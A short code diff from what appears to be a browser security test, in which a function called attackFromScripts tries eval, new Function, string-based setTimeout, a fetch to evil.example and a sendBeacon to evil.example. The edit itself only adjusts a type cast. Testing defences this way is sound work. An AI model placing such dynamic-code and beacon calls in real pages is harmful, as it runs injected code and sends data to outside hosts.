@@ -85,7 +85,7 @@ export async function attackFromScripts(page: Page): Promise<string[]> {
           const timer = setTimeout as unknown as (text: string) => number;
           attempt('eval', () => (0, eval)(code('eval')) as unknown);
 
-          attempt('new Function', () => new Function(code('new Function'))() as unknown);
+          attempt('new Function', () => (new Function(code('new Function')) as () => unknown)());
           attempt('text given to setTimeout', () => timer(code('setTimeout')));
           attempt('foreign fetch', () => fetch('https://evil.example/f'));
           attempt('beacon', () => navigator.sendBeacon('https://evil.example/b', 'x'));
